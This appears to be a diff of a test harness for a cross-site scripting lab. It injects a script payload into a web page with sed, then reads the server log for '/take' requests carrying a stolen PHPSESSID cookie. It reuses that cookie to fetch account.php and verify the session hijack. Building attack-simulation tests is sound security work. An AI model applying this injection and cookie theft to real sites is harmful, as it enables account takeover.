@@ -15,7 +15,7 @@ stored)
 	;;
 reflected)
 	phase plant
-	sed -i "s,SEARCH,$script," /srv/www/index.html
+	sed -i "s,SEARCH,$script," "$HOST_ROOT/srv/www/index.html"
 	;;
 esac
 signal planted
@@ -24,7 +24,7 @@ phase hijack
 # The web server writes in order: after this, what has come is in its log.
 curl -s http://127.0.0.1/mark >/dev/null
 log web '^/mark$' 1 >/dev/null
-sent=$(log web | grep -c '^/take' || true)
+sent=$(log web | grep '^/take' | sort -u | wc -l) # a page may hold the script of an earlier time, too
 cookie=$(log web | sed -n 's,^/take?.*\(PHPSESSID=[a-z0-9]*\).*,\1,p' | head -n 1)
 fetch "http://$WEB_NAME/account.php" "$cookie" >account
 outcome sent="$sent"
